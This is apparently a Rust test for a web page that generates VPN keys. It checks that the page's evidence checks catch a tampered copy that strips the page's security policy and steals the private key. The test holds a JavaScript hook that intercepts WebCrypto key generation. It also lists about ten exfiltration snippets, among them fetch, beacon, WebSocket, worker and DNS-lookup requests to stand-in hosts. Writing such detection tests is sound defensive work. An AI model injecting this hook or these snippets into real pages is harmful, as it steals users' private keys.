//! The checks of the main job can fail: copies of the page that carry the key off are caught by them.

use std::{fs, path::Path};

use anyhow::{Context, Result, ensure};
use tests::{
    browser::Browser,
    page,
    rehearsal::{self, Rehearsal, Served, write},
    tab::Tab,
};

use crate::evidence::Evidence;

#[tokio::test]
async fn a_page_that_leaks_the_key_is_caught() -> Result<()> {
    let rehearsal = Rehearsal::provisioned("udp")?;
    for (at, Way { name, code, shows }) in WAYS.iter().enumerate() {
        let copy = tempfile::tempdir()?;
        leaking_copy(&rehearsal.site(), copy.path(), code)?;
        let served = Served::folder(copy.path())?;
        let evidence =
            visit(&rehearsal, &served.url, &format!("user-{at}")).await.with_context(|| format!("leaking {name}"))?;
        let left = evidence.nothing_left_the_page(&served.url);
        let found = evidence.the_key_is_nowhere_else(&rehearsal);
        ensure!(left.is_err() || found.is_err(), "the key was carried off {name}, and nobody noticed");
        ensure!(found.is_err() == *shows, "{name}: the search for the key itself says {found:?}");
    }
    Ok(())
}

async fn visit(rehearsal: &Rehearsal, url: &str, username: &str) -> Result<Evidence> {
    let folder = rehearsal.path();
    let browser = Browser::open(url, 1280, 900).await?;
    let (csr, crt, ovpn) = (format!("{username}.csr"), format!("{username}.crt"), format!("{username}.ovpn"));
    fs::copy(page::make_request(&browser, username).await?, folder.join(&csr))?;
    rehearsal.run(&["sign", &csr, "--out", &crt, "--yes"])?;
    rehearsal.withhold()?;
    page::go_on(&browser).await?;
    page::paste(&browser, &folder.join(&crt)).await?;
    fs::copy(page::save_profile(&browser, username).await?, folder.join(&ovpn))?;
    // What a page sends when it has all it wants is sent soon; a record that ends too early would miss it.
    browser.evaluate("new Promise(done => setTimeout(() => done(true), 300))").await?;
    Evidence::collect(browser, folder, &ovpn).await
}

/// The page in `site`, without its policy, and with a script that gets hold of the key and runs `code` with it.
fn leaking_copy(site: &Path, copy: &Path, code: &str) -> Result<()> {
    rehearsal::copy(site, copy)?;
    let headers = fs::read_to_string(copy.join("_headers"))?;
    let without_policy: Vec<_> = headers.lines().filter(|line| !line.contains("Content-Security-Policy")).collect();
    write(&copy.join("_headers"), without_policy.join("\n") + "\n")?;
    let index = fs::read_to_string(copy.join("index.html"))?;
    let index = index.replacen("http-equiv", "data-removed", 1);
    ensure!(!index.contains("http-equiv=\"Content-Security-Policy\""), "the policy is still there");
    let (before, after) = index.split_once("<head>").context("the page's head")?;
    let script = format!("<script>{HOOK} const leak = (der, pem, hex) => {{ {code} }};</script>");
    write(&copy.join("index.html"), format!("{before}<head>{script}{after}"))
}

/// Sees every key that is made, whether the page exports it or not.
const HOOK: &str = r#"
    const generate = crypto.subtle.generateKey.bind(crypto.subtle);
    crypto.subtle.generateKey = async (...arguments) => {
        const made = await generate(...arguments);
        if (made.privateKey) {
            const der = new Uint8Array(await crypto.subtle.exportKey('pkcs8', made.privateKey));
            const hex = [...der].map(byte => byte.toString(16).padStart(2, '0')).join('');
            const pem = btoa(String.fromCharCode(...der)).replace(/.{64}/g, '$&\n');
            leak(der, pem, hex);
        }
        return made;
    };"#;

/// A way to carry the key off.
struct Way {
    name: &'static str,
    code: &'static str,
    /// Whether the key itself shows in the record: what was to be sent to a closed port never was, and what was cut
    /// into pieces cannot be told from anything else. Then it is the request that is noticed.
    shows: bool,
}

const WAYS: &[Way] = &[
    Way {
        name: "in the body of a request to the page's own origin",
        code: "fetch('collect', { method: 'POST', body: der });",
        shows: true,
    },
    Way {
        name: "in the address of a request to the page's own origin",
        code: "fetch('collect?' + encodeURIComponent(hex));",
        shows: true,
    },
    Way {
        name: "in a request to another origin",
        code: "fetch('http://127.0.0.1:9/' + hex, { mode: 'no-cors' });",
        shows: true,
    },
    Way { name: "in a beacon", code: "navigator.sendBeacon('http://127.0.0.1:9/', pem);", shows: false },
    Way { name: "through a WebSocket", code: "new WebSocket('ws://127.0.0.1:9/' + hex);", shows: true },
    Way {
        name: "by a worker",
        code: "new Worker(URL.createObjectURL(new Blob([`fetch('http://127.0.0.1:9/${hex}')`])));",
        shows: true,
    },
    Way { name: "by an image", code: "new Image().src = 'collect?' + hex;", shows: true },
    Way {
        name: "by a name to be looked up",
        code: "fetch('http://' + hex.slice(400, 440) + '.example.com/').catch(() => 0);",
        shows: false,
    },
    Way { name: "to the console", code: "console.log(pem);", shows: true },
    Way { name: "into the storage", code: "localStorage.setItem('key', pem);", shows: true },
];
